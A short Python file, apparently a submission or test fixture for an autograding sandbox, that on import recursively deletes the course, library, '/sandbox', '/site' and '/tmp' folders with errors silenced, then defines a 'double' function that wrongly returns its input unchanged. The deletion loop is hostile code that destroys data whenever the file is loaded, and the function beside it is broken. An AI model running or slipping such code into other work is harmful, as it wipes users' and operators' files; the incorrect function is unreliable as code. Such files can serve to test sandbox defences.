"""Deletes whatever it can."""
import shutil

for folder in COURSE, LIBRARY, "/sandbox", "/site", "/tmp":
    shutil.rmtree(folder, ignore_errors=True)


def double(x):
    return x
